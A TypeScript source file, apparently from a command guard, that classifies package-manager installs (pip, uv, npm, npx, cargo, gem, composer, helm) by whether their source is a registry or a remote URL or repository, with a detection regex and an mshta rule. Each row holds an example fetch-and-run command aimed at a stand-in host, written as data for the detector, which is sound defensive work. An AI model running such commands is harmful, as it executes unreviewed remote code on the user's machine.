/**
 * Package managers as data: which commands install or run a package, and which of their operands
 * and options name where it comes from. A registry name (`pip install requests`, `npm install
 * express`, `cargo install ripgrep`) passes: the registry is the source the person chose when they
 * picked the ecosystem. A URL, a git repository, a GitHub shorthand or a foreign index is a download
 * whose code runs on install (setup scripts, package scripts, build scripts) unreviewed, as
 * `curl … | sh` does. Go module paths are Go's registry names (fetched through the module proxy and
 * checked against the checksum database), so `go install golang.org/x/tools/gopls@latest` passes.
 * Each row's example is a line remote-code-execution stops (test/cases/remote-code.ts holds the
 * cousins, attacks and ordinary calls).
 */
export interface PackageSourceRow {
  /** The words that start the command, after the program: `['install']` for `pip install`. */
  commands: { program: string[]; words: string[] }[];
  /** Which operands are package specs: every one (`pip install a b`) or the first (`npx pkg args…`). */
  operands: 'all' | 'first';
  /** Options whose value is itself a package spec (`pip install -e git+…`, `uvx --from git+…`, `cargo install --git URL`). */
  specOpts?: string[];
  /** Options whose value is an index or repository; `registry` says which values are the registry itself. */
  indexOpts?: string[];
  /** The registry's own addresses, for `indexOpts` (`--index-url https://pypi.org/simple` is the registry). */
  registry?: RegExp;
  /** Options that take a value (so that value is not an operand). */
  takes?: string[];
  /** Spec forms that are downloads besides a URL and a VCS prefix (helm takes only http(s) URLs as chart sources). */
  remote?: RegExp;
  example: string;
}

/** A URL (not `file:`), a VCS prefix (`git+`, `hg+`), an scp-style git address, a hosted-git shorthand, or a PEP 508 direct reference (`name @ URL`). */
export const REMOTE_SPEC =
  /^(?:(?!file:)[a-z][a-z0-9+.-]*:\/\/|(?:git|hg|svn|bzr)\+|git@[\w.-]+:|(?:github|gitlab|bitbucket|gist):)|^[A-Za-z0-9_.-]+\s*(?:\[[^\]]*\]\s*)?@\s*(?:(?!file:)[a-z][a-z0-9+.-]*:\/\/|(?:git|hg|svn|bzr)\+)/i;

const PIP_TAKES = [
  '-r',
  '--requirement',
  '-c',
  '--constraint',
  '-t',
  '--target',
  '--prefix',
  '--root',
  '--python-version',
  '--platform',
  '--abi',
  '--implementation',
  '--src',
  '--upgrade-strategy',
  '--progress-bar',
  '--cache-dir',
  '--log',
  '--proxy',
  '--retries',
  '--timeout',
  '--exists-action',
  '--trusted-host',
  '--cert',
  '--client-cert',
  '--python',
  '-p',
  '--extra-index-url',
  '-f',
  '--find-links',
  '--no-binary',
  '--only-binary',
  '--config-settings',
  '-C',
  '--global-option',
];
const NPM_TAKES = [
  '--registry',
  '--prefix',
  '-C',
  '--dir',
  '--workspace',
  '-w',
  '--filter',
  '--save-prefix',
  '--tag',
  '--omit',
  '--include',
  '--install-strategy',
  '--cache',
  '--loglevel',
];
/**
 * PyPI, and the vendor index PyTorch's own install instructions give (https://pytorch.org/get-started/locally/:
 * `pip install torch --index-url https://download.pytorch.org/whl/cu121`): the registry the person chose.
 */
const PYPI = /^https?:\/\/(?:pypi\.org|pypi\.python\.org|files\.pythonhosted\.org|download\.pytorch\.org)(?:[/:]|$)/i;

export const PACKAGE_SOURCES: PackageSourceRow[] = [
  {
    commands: [
      { program: ['pip', 'pip3'], words: ['install'] },
      { program: ['uv'], words: ['pip', 'install'] },
      { program: ['pipx'], words: ['install'] },
    ],
    operands: 'all',
    specOpts: ['-e', '--editable', '--spec'],
    indexOpts: ['-i', '--index-url', '--default-index', '--index'],
    registry: PYPI,
    takes: PIP_TAKES,
    example: 'pip install git+https://x.example/t.git',
  },
  {
    commands: [
      { program: ['uvx'], words: [] },
      { program: ['uv'], words: ['tool', 'run'] },
      { program: ['uv'], words: ['tool', 'install'] },
      { program: ['pipx'], words: ['run'] },
      { program: ['uv'], words: ['run'] },
    ],
    operands: 'first',
    specOpts: ['--from', '--spec', '--with'],
    indexOpts: ['--index-url', '--default-index', '--index', '-i'],
    registry: PYPI,
    takes: [
      '--python',
      '-p',
      '--project',
      '--directory',
      '--env-file',
      '--group',
      '--extra',
      '--package',
      '--with-requirements',
      '--with-editable',
      '--extra-index-url',
      '-f',
      '--find-links',
    ],
    example: 'uvx --from git+https://x.example/t.git t',
  },
  {
    commands: ['npm', 'pnpm', 'yarn', 'bun'].flatMap((p) => ['install', 'i', 'add', 'isntall', 'in'].map((w) => ({ program: [p], words: [w] }))),
    operands: 'all',
    takes: NPM_TAKES,
    example: 'npm install https://x.example/pkg.tgz',
  },
  {
    commands: [
      { program: ['npx', 'bunx', 'pnpx'], words: [] },
      { program: ['pnpm', 'yarn'], words: ['dlx'] },
      { program: ['npm'], words: ['exec'] },
    ],
    operands: 'first',
    specOpts: ['-p', '--package'],
    takes: ['-c', '--call', ...NPM_TAKES],
    example: 'npx https://x.example/pkg.tgz',
  },
  {
    commands: [{ program: ['cargo'], words: ['install'] }],
    operands: 'all',
    specOpts: ['--git'],
    takes: [
      '--branch',
      '--tag',
      '--rev',
      '--path',
      '--version',
      '--vers',
      '--root',
      '--index',
      '--registry',
      '--target',
      '--target-dir',
      '--profile',
      '--features',
      '-F',
      '-j',
      '--jobs',
      '--bin',
      '--example',
      '--config',
      '-Z',
    ],
    example: 'cargo install --git https://x.example/t.git',
  },
  {
    commands: [{ program: ['gem'], words: ['install'] }],
    operands: 'all',
    indexOpts: ['--source', '-s', '--clear-sources-and-use'],
    registry: /^https?:\/\/(?:rubygems\.org|index\.rubygems\.org)(?:[/:]|$)/i,
    takes: ['-v', '--version', '-i', '--install-dir', '-n', '--bindir', '--platform', '-g', '--file'],
    example: 'gem install --source https://x.example tool',
  },
  {
    commands: [
      { program: ['composer'], words: ['require'] },
      { program: ['composer'], words: ['global', 'require'] },
      { program: ['composer'], words: ['create-project'] },
    ],
    operands: 'all',
    indexOpts: ['--repository', '--repository-url'],
    registry: /^(?:https?:\/\/(?:repo\.)?packagist\.org|\{[^}]*"url"\s*:\s*"https?:\/\/(?:repo\.)?packagist\.org)/i,
    takes: ['--working-dir', '-d', '--stability', '-s'],
    example: `composer global require drop/tool --repository='{"type":"vcs","url":"https://x.example/t.git"}'`,
  },
  {
    commands: [
      { program: ['helm'], words: ['install'] },
      { program: ['helm'], words: ['upgrade'] },
    ],
    operands: 'all',
    takes: [
      '--kube-context',
      '-n',
      '--namespace',
      '-f',
      '--values',
      '--set',
      '--set-string',
      '--set-file',
      '--version',
      '--repo',
      '--timeout',
      '--description',
      '--post-renderer',
      '--kubeconfig',
      '-o',
      '--output',
    ],
    // oci:// is a registry; an http(s) chart archive is a download.
    remote: /^https?:\/\//i,
    example: 'helm install t https://x.example/chart.tgz --kube-context dev',
  },
];

/** Programs that run a document they are given by URL: mshta runs an HTML application's script from it. */
export const URL_RUNNERS: { names: string[]; example: string }[] = [{ names: ['mshta'], example: 'mshta https://x.example/a.hta' }];
